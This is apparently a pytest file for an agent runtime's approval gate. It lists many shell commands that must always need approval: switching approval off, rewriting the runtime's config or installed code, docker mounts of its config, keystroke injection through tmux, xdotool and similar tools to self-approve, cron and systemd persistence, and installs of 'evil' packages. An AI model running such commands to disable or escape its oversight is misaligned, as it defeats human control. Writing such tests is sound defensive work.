"""Commands that change this runtime, act for its user or escape its control always need approval."""

from __future__ import annotations

from pathlib import Path

import pytest

import toolfold
from shellverdict.effects.container_mounts import MAX_MOUNTS
from shellverdict.paths.own_program import runtime_program_paths
from tests.cases import check_cases
from toolfold.config import load_config
from toolfold.core.loops import EventLoops
from toolfold.safety.approval.approval_factory import build_approval
from toolfold.safety.approval.gate import Approval, ApprovalPreview

HOME = "/home/u"
PACKAGE = Path(toolfold.__file__).parent
ANALYZER_PACKAGE = PACKAGE.parent / "shellverdict"

PROTECTED_COMMANDS = r"""
toolfold config set approval.mode off
toolfold config unset approval.deny
toolfold config edit
toolfold config accept
toolfold config restore
toolfold approvals revoke 1
toolfold token add x
toolfold token revoke x
toolfold env shell
toolfold env shell local
toolfold mcp add x -- npx y
toolfold mcp import --yes
toolfold mcp remove x
toolfold mcp review --yes
toolfold mcp login x
toolfold mcp logout x
toolfold connect cursor --yes
toolfold plugins trust
uvx toolfold config set approval.mode off
uvx --from toolfold toolfold config set approval.mode off
uvx toolfold@latest token add x
uv run toolfold config set approval.mode off
uv tool run toolfold config set approval.mode off
uv run python -m toolfold config set approval.mode off
pipx run toolfold config set approval.mode off
poetry run toolfold config set approval.mode off
pdm run toolfold config set approval.mode off
hatch run toolfold config set approval.mode off
rye run toolfold config set approval.mode off
pipenv run toolfold config set approval.mode off
pixi run toolfold config set approval.mode off
conda run -n x toolfold config set approval.mode off
python -m toolfold config set approval.mode off
python3 -m toolfold.cli config set approval.mode off
python3.12 -m toolfold config set approval.mode off
/usr/local/bin/toolfold config set approval.mode off
.venv/bin/toolfold config set approval.mode off
.venv/bin/python -m toolfold token add x
sh -c 'toolfold config set approval.mode off'
echo approval.mode off | xargs toolfold config set
echo config set approval.mode off | xargs toolfold
env -i toolfold config set approval.mode off
script -qc 'toolfold config set approval.mode off' /dev/null
python -c 'from toolfold.cli import main; main()'
python -c 'import toolfold.config as c; c.set_value(c.locate_paths().user_file, "approval.mode", "off")'
python -c 'from toolfold.config import trust'
python -c 'import runpy; runpy.run_module("toolfold")'
python -c 'import importlib; importlib.import_module("toolfold.cli").main()'
python -c '__import__("toolfold.cli")'
python - <<< 'from toolfold.cli import main; main()'
python <<E\nfrom toolfold.cli import main\nmain()\nE
sed -i s/a/b/ ~/.config/toolfold/config.yaml
sed -i s/a/b/ /home/u/.config/toolfold/config.yaml
sed -i s/a/b/ ~/.config/tool*/c*
sed -i s/a/b/ ~/.config/*/config.yaml
sed -i s/a/b/ ~/.c*/t*/c*
sed -i s/a/b/ toolfold.yaml
find ~/.config -name config.yaml | xargs sed -i s/manual/off/
find ~/.config -name config.yaml -print0 | xargs -0 sed -i s/manual/off/
find ~/.config -name config.yaml | head -1 | xargs -I{} sed -i s/manual/off/ {}
find ~/.config -name config.yaml | while read f; do sed -i s/a/b/ "$f"; done
for f in $(find ~/.config -name config.yaml); do sed -i s/a/b/ "$f"; done
grep -rl manual ~/.config | xargs sed -i s/manual/off/
rg -l manual ~/.config | xargs sed -i s/manual/off/
sed -i s/manual/off/ $(grep -rl manual ~/.config)
docker run -v $HOME:/h alpine touch /h/x
docker run -v ~/.config:/c alpine touch /c/toolfold/config.yaml
docker run --rm -it -v$HOME:/h alpine sh
docker run --volume=/home/u:/h alpine sh
docker run --mount type=bind,src=/home/u,dst=/h alpine sh
docker run -itv ~/.config/toolfold:/c alpine sh
docker run -itv=/home/u/.config/toolfold:/c alpine sh
docker run -dv/home/u/.config/toolfold:/c alpine sh
docker run -v ~/.config/toolfold:/c,ro alpine sh
docker run --mount type=bind,src=/home/u/.config/toolfold,dst=/c,readonly=false alpine sh
docker run --mount type=bind,src=/home/u/.config/toolfold,dst=/c,ro=0 alpine sh
docker run --mount type=bind,src=/home/u/.config/toolfold,dst=/c,ro,readonly=false alpine sh
docker run --mount 'TYPE=bind,"SRC=/home/u/.config/toolfold",dst=/c' alpine sh
docker run --mount type=volume,dst=/c,volume-opt=o=bind,volume-opt=device=/home/u/.config/toolfold alpine sh
docker volume create --opt type=none --opt o=bind --opt device=/home/u/.config/toolfold v
podman run -v $HOME:/h alpine touch /h/x
echo ~/.config/toolfold/config.yaml | xargs sed -i s/a/b/
find ~/.config -name config.yaml -exec sed -i s/manual/off/ {} +
echo x | tee ~/.config/toolfold/config.yaml
echo x | tee -a toolfold.yaml
yq -i '.approval.mode="off"' ~/.config/toolfold/config.yaml
perl -pi -e s/a/b/ ~/.config/toolfold/config.yaml
ruby -pi -e 'x' ~/.config/toolfold/config.yaml
python -c 'open("/home/u/.config/toolfold/config.yaml","w").write("x")'
python -c 'import os; open(os.path.expanduser("~/.config/toolfold/config.yaml"),"w").write("x")'
python -c 'import pathlib; (pathlib.Path.home()/".config"/"toolfold"/"config.yaml").write_text("x")'
node -e 'require("fs").writeFileSync("/home/u/.config/toolfold/config.yaml","x")'
cp x ~/.config/toolfold/config.yaml
cp -t ~/.config/toolfold config.yaml
mv x ~/.config/toolfold/config.yaml
mv ~/.config/toolfold ~/.config/old
ln -s /tmp/x ~/.config/toolfold
ln -sf /tmp/x ~/.config/toolfold/config.yaml
install x ~/.config/toolfold/config.yaml
install -D -m 644 x ~/.config/toolfold/plugins/p.py
rsync x ~/.config/toolfold/config.yaml
rsync -a d/ ~/.config/toolfold/
truncate -s 0 ~/.config/toolfold/config.yaml
dd of=~/.config/toolfold/config.yaml
vim ~/.config/toolfold/config.yaml
nano ~/.config/toolfold/config.yaml
ed ~/.config/toolfold/config.yaml
ex -sc 's/a/b/|x' ~/.config/toolfold/config.yaml
emacs --batch ~/.config/toolfold/config.yaml
code ~/.config/toolfold/config.yaml
f=~/.config/toolfold/config.yaml; echo x > $f
D=$HOME/.config/toolfold; echo x >> "$D/config.yaml"
cd ~/.config/toolfold && echo x > config.yaml
cd ~/.config && echo x > toolfold/config.yaml
cd ~/.config/tool*; echo x > c*
echo x > "$XDG_CONFIG_HOME/toolfold/config.yaml"
echo x > ${XDG_CONFIG_HOME:-$HOME/.config}/toolfold/config.yaml
tar xf a.tar -C ~/.config/toolfold
unzip a.zip -d ~/.config/toolfold
git -C ~/.config/toolfold checkout .
curl -o ~/.config/toolfold/config.yaml https://x.example/y
wget -O ~/.config/toolfold/config.yaml https://x.example/y
patch ~/.config/toolfold/config.yaml p.diff
sponge ~/.config/toolfold/config.yaml
sqlite3 x '.output /home/u/.config/toolfold/config.yaml'
awk '{print > "/home/u/.config/toolfold/config.yaml"}' x
jq . x > ~/.local/state/toolfold/trust.json
rm ~/.local/state/toolfold/approvals.jsonl
chmod 777 ~/.config/toolfold
systemd-run --user toolfold config set approval.mode off
systemd-run --user touch x
systemd-run --scope touch x
echo 'toolfold config set approval.mode off' | at now
ssh localhost toolfold config set approval.mode off
ssh localhost touch x
ssh 127.0.0.1 ls
docker exec x toolfold config set approval.mode off
tmux send-keys -t 0 y Enter
tmux -S /tmp/tmux-0/default send-keys y Enter
tmux send -t 0 y C-m
tmux paste-buffer -t 0
tmux load-buffer f \; paste-buffer -t 0
tmux if-shell true 'send-keys y Enter'
tmux pipe-pane -I -t 0 'echo y'
tmux run-shell 'sh x.sh'
tmux split-window 'sh x.sh'
tmux set-environment -g TOOLFOLD_HOME /tmp/x
screen -X source x
screen -S x -X stuff 'y\n'
xdotool type y
xdotool key Return
ydotool type y
wtype y
kitty @ send-text y
wezterm cli send-text y
zellij action write-chars y
osascript -e 'tell application "System Events" to keystroke "y"'
ulimit -m unlimited
ulimit -Hm 100
ulimit -S -m 1
prlimit --rss=unlimited --pid 3
prlimit --rss=100 ls
prlimit -m=100 ls
python -c 'import resource; resource.setrlimit(resource.RLIMIT_RSS, (-1,-1))'
dbus-send --session --dest=org.freedesktop.systemd1 x
busctl --user call org.freedesktop.systemd1 x
TOOLFOLD_APPROVAL__DENY= toolfold call x
TOOLFOLD_PLUGINS__FOLDER=/tmp/x toolfold tools list
XDG_CONFIG_HOME=/tmp/x toolfold call x
export TOOLFOLD_HOME=/tmp/x; toolfold call x
sed -i s/a/b/ /opt/x/lib/python3.12/site-packages/toolfold/provenance.py
sed -i s/a/b/ {package}/provenance.py
rm {package}/approval/chain.py
rm {analyzer_package}/rules/effects.toml
sed -i s/a/b/ /opt/x/lib/python3.12/site-packages/shellverdict/judge.py
rm -rf {package}
mv {package} /tmp/old
cd {package} && sed -i s/a/b/ provenance.py
rm .venv/lib/python3.12/site-packages/shellverdict/rules/effects.toml
rm -r .venv/lib/python3.12/site-packages/toolfold-0.1.0.dist-info
cp evil .venv/bin/toolfold
echo x > ~/.local/bin/toolfold
ln -sf /tmp/x ~/.local/bin/toolfold
curl -o ~/.local/bin/toolfold https://x.example/y
uv pip install --python ~/.local/share/uv/tools/toolfold evil
~/.local/share/uv/tools/toolfold/bin/python -m pip install evil
rm -rf ~/.local/share/uv/tools/toolfold
pipx inject toolfold evil
pipx upgrade toolfold
pipx uninstall toolfold
pip install -U toolfold
pip3 install 'toolfold<0.1'
python -m pip uninstall -y toolfold
pip install ./dist/toolfold-9.9-py3-none-any.whl
uv tool install toolfold
uv tool install --force toolfold==0.0.1
uv tool upgrade toolfold
uv tool upgrade --all
uv tool uninstall toolfold
uv pip install -U toolfold
""".strip().splitlines()

ESCAPING_COMMANDS = r"""
xargs toolfold < args.txt
mount --bind /tmp/x ~/.config/toolfold
at now -f x
echo x | at now
batch < x
crontab x
echo '* * * * * x' | crontab -
docker run -v /:/h alpine touch /h/x
docker run -v $(cat x):/c alpine sh
docker run -v $(cat x) alpine sh
docker run -itv$UNKNOWN:/c alpine sh
docker run -v $PWD/$(cat x):/c alpine sh
docker run --mount type=bind,src=$(cat x),dst=/c alpine sh
docker run --mount $(cat x) alpine sh
nsenter -t 1 -a ls
systemctl --user start x
gdb -p 1234 -ex 'call x'
""".strip().splitlines()

HARMLESS_COMMANDS = r"""
toolfold config show
toolfold approvals test 'rm -rf x'
toolfold call read_file '{}'
uvx toolfold mcp serve
uvx ruff check .
pipx run black .
uv tool run mypy src
python -c 'import toolfold; print(toolfold.__version__)'
python -c 'from toolfold import open_runtime'
python -m toolfold doctor
cat toolfold.yaml
sed -n 1p toolfold.yaml
grep -rl old src | xargs sed -i s/old/new/
find . -name '*.py' -exec sed -i s/a/b/ {} +
tmux new -d 'make test'
ulimit -n 4096
ulimit -a
ssh build.example.com make
find . -name '*.py' | xargs sed -i s/a/b/
find ~/work -name '*.py' | xargs sed -i s/a/b/
docker run -v $HOME:/h:ro alpine ls
docker run -v $PWD:/app node npm test
docker run -v .:/app node npm test
docker run -v ~/.m2:/root/.m2 maven mvn test
docker run -v data:/var/lib/x postgres
pip show toolfold
pip install -e .
uv pip install --python .venv pytest
cat {package}/provenance.py
grep -rn x .venv/lib/python3.12/site-packages/toolfold
.venv/bin/toolfold doctor
ls -l ~/.local/bin/toolfold
rm -rf src/toolfold/__pycache__
cp build/tool ~/.local/bin/tool
docker run -v $(pwd):/app node npm test
docker run -v "$PWD":/app node npm test
docker run --rm -itv "$(pwd)/src":/app node npm test
docker run -v ${HOME}/.m2:/root/.m2 maven mvn test
docker run -v data-$X:/var/lib/x postgres
docker run -v $(cat x):/c:ro alpine sh
docker run --mount type=bind,src=$HOME,dst=/h,readonly alpine ls
docker run --mount type=bind,src=$HOME,dst=/h,ro=true alpine ls
docker run --mount type=volume,src=data,dst=/h alpine ls
docker exec api curl -v $URL
docker compose down --remove-orphans
docker run -e TOKEN=$TOKEN -p $PORT:80 nginx
docker build -t app:$(git rev-parse HEAD) .
""".strip().splitlines()


def preview(command: str, tmp_path: Path, mode: str) -> ApprovalPreview:
    config = load_config(project=tmp_path, env={"HOME": HOME}, overrides={"approval.mode": mode})
    approval: Approval = build_approval(config, EventLoops())
    return approval.preview(
        command.replace("\\n", "\n")
        .replace("{package}", str(PACKAGE))
        .replace("{analyzer_package}", str(ANALYZER_PACKAGE))
    )


@pytest.fixture(autouse=True)
def set_home(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", HOME)
    for name in ("TOOLFOLD_HOME", "TOOLFOLD_CONFIG", "XDG_CONFIG_HOME", "XDG_STATE_HOME"):
        monkeypatch.delenv(name, raising=False)


@check_cases("command", PROTECTED_COMMANDS)
def test_commands_that_administer_toolfold_or_change_its_files_always_need_approval(
    command: str, tmp_path: Path
) -> None:
    result = preview(command, tmp_path, "off")
    assert not result.runs_without_approval
    assert "self-protection" in {each.category for each in result.analysis.verdict.findings}


def test_docker_mount_of_the_toolfold_directory_needs_approval_even_after_many_harmless_mounts(
    tmp_path: Path,
) -> None:
    many = " ".join(f"-v /srv/{number}:/{number}" for number in range(MAX_MOUNTS))
    assert preview(f"docker run {many} alpine", tmp_path, "manual").runs_without_approval
    assert not preview(
        f"docker run {many} -v ~/.config/toolfold:/c alpine", tmp_path, "manual"
    ).runs_without_approval


@check_cases("command", ESCAPING_COMMANDS)
def test_commands_that_start_processes_which_toolfold_cannot_terminate_need_approval(
    command: str, tmp_path: Path
) -> None:
    assert not preview(command, tmp_path, "manual").runs_without_approval


@check_cases("command", HARMLESS_COMMANDS)
def test_harmless_commands_similar_to_toolfold_administration_run_without_approval(
    command: str, tmp_path: Path
) -> None:
    assert preview(command, tmp_path, "manual").runs_without_approval


def test_toolfold_source_code_is_protected_unless_the_project_is_the_toolfold_repository(
    tmp_path: Path,
) -> None:
    package = tmp_path / "src" / "toolfold"
    package.mkdir(parents=True)
    assert runtime_program_paths(tmp_path, package, tmp_path / ".venv") == []
    assert package in runtime_program_paths(tmp_path / "other", package, tmp_path / ".venv")


def test_deleting_installed_toolfold_files_needs_approval_even_if_the_project_has_src_toolfold(
    tmp_path: Path,
) -> None:
    (tmp_path / "src" / "toolfold").mkdir(parents=True)
    assert not preview("rm {package}/provenance.py", tmp_path, "off").runs_without_approval


def test_virtual_environment_dedicated_to_toolfold_is_protected(tmp_path: Path) -> None:
    environment = tmp_path / "tools" / "toolfold"
    package = environment / "lib" / "toolfold"
    assert environment in runtime_program_paths(tmp_path / "project", package, environment)
